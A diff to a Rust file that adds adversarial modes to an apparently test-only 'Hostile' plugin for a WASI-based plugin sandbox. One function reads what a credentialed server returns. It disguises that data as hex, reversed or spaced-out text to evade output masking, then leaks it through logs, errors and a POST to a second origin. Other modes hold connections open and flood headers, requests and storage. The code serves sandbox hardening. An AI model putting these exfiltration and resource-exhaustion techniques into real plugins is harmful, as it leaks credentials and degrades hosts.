@@ -103,12 +103,158 @@ impl Step for Hostile {
                 itsm_sdk::kv::set("k", b"v")?;
                 ok(json!({}))
             }
+            "exfiltrate" => exfiltrate(ctx),
+            "hold" => {
+                let n: usize = ctx.config("count")?.parse().unwrap_or(10);
+                ok(raw::hold(ctx.config("url")?, n))
+            }
+            "fields" => {
+                let n: usize = ctx.config("count")?.parse().unwrap_or(10_000);
+                let size: usize = ctx.config("size")?.parse().unwrap_or(60 * 1024);
+                ok(json!({ "created": raw::fields(n, size) }))
+            }
+            "big-request-header" => {
+                let size: usize = ctx.config("size")?.parse().unwrap_or(1 << 20);
+                let resp = http::get(ctx.config("url")?)
+                    .header("x-big", &"h".repeat(size))
+                    .send()?;
+                ok(json!({ "status": resp.status }))
+            }
+            "many-requests" => {
+                // Each with a long URL: the request log must stay bounded.
+                let n: usize = ctx.config("count")?.parse().unwrap_or(1000);
+                let long = "q".repeat(60_000);
+                let mut statuses = 0;
+                for i in 0..n {
+                    let url = format!("{}?i={i}&pad={long}", ctx.config("url")?);
+                    if http::get(&url).send().is_ok() {
+                        statuses += 1;
+                    }
+                }
+                ok(json!({ "answered": statuses }))
+            }
+            "kv-fill" => {
+                let mut stored = 0u32;
+                let value = vec![7u8; 64 * 1024];
+                let mut error = String::new();
+                for i in 0..4000 {
+                    match itsm_sdk::kv::set(&format!("fill-{i}"), &value) {
+                        Ok(()) => stored += 1,
+                        Err(e) => {
+                            error = e.to_string();
+                            break;
+                        }
+                    }
+                }
+                ok(json!({ "stored": stored, "error": error }))
+            }
             other => Err(StepError::fatal(format!("unknown mode {other}"))),
         }
     }
 
     fn verify(_: &Context) -> Result<Evidence, StepError> {
         Err(StepError::fatal("hostile"))
+    }
+}
+
+/// Read what a credentialed server echoes back (GET and TRACE), then try
+/// to get it out every way a plugin can: outputs, log, evidence, error, and
+/// a second allowed origin, in forms output masking would not recognise.
+fn exfiltrate(ctx: &Context) -> Result<Outcome, StepError> {
+    let url = ctx.config("url")?;
+    let mut seen = String::new();
+    match http::get(url).send() {
+        Ok(r) => {
+            seen.push_str(&format!("{:?}", r.headers));
+            seen.push_str(&r.text());
+        }
+        Err(e) => seen.push_str(&format!("GET failed: {e}")),
+    }
+    match http::Request::new("TRACE", url).send() {
+        Ok(r) => seen.push_str(&r.text()),
+        Err(e) => seen.push_str(&format!(" TRACE failed: {e}")),
+    }
+    let forms = json!({
+        "plain": seen,
+        "hex": seen.bytes().map(|b| format!("{b:02x}")).collect::<String>(),
+        "reversed": seen.chars().rev().collect::<String>(),
+        "upper": seen.to_uppercase(),
+        "every_other": seen.chars().step_by(2).collect::<String>(),
+        "split": seen.chars().map(|c| format!("{c} ")).collect::<String>(),
+    });
+    let text = forms.to_string();
+    log::info(&text);
+    if let Ok(drop) = ctx.config("url2") {
+        let _ = http::post(drop).body(text.clone().into_bytes()).send();
+    }
+    if ctx.config("fail").is_ok() {
+        return Err(StepError::fatal(text));
+    }
+    Ok(Outcome::new(
+        forms.clone(),
+        Evidence::new("exfiltrate", "none").before(forms),
+    ))
+}
+
+/// Plain `wasi:http`, beneath the SDK: what a hostile plugin can do.
+mod raw {
+    use serde_json::{Value, json};
+    use wasip2::http::outgoing_handler;
+    use wasip2::http::types::{Fields, Method, OutgoingRequest, Scheme};
+
+    fn request(url: &str) -> OutgoingRequest {
+        let rest = url.strip_prefix("http://").unwrap_or(url);
+        let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
+        let req = OutgoingRequest::new(Fields::new());
+        req.set_method(&Method::Get).unwrap();
+        req.set_scheme(Some(&Scheme::Http)).unwrap();
+        req.set_authority(Some(authority)).unwrap();
+        req.set_path_with_query(Some(if path.is_empty() { "/" } else { path }))
+            .unwrap();
+        req
+    }
+
+    /// Start `n` requests at once and only then wait for them: how many
+    /// got a response, and the distinct errors of the rest.
+    pub fn hold(url: &str, n: usize) -> Value {
+        let mut futures = Vec::new();
+        let mut errors = Vec::<String>::new();
+        for _ in 0..n {
+            match outgoing_handler::handle(request(url), None) {
+                Ok(f) => futures.push(f),
+                Err(e) => errors.push(format!("{e:?}")),
+            }
+        }
+        let mut answered = 0;
+        let mut responses = Vec::new();
+        for f in &futures {
+            f.subscribe().block();
+            match f.get() {
+                Some(Ok(Ok(r))) => {
+                    answered += 1;
+                    // Kept unread: the connection stays open.
+                    responses.push(r);
+                }
+                Some(Ok(Err(e))) => errors.push(format!("{e:?}")),
+                other => errors.push(format!("{other:?}")),
+            }
+        }
+        errors.sort();
+        errors.dedup();
+        json!({ "answered": answered, "errors": errors })
+    }
+
+    /// Make `n` header sets of one `size`-byte header each and keep them all.
+    pub fn fields(n: usize, size: usize) -> usize {
+        let mut kept = Vec::new();
+        let value = vec![b'v'; size];
+        for i in 0..n {
+            let f = Fields::new();
+            f.append("x-fill", &value)
+                .unwrap_or_else(|e| panic!("append {i}: {e:?}"));
+            kept.push(f);
+        }
+        kept.len()
     }
 }
 
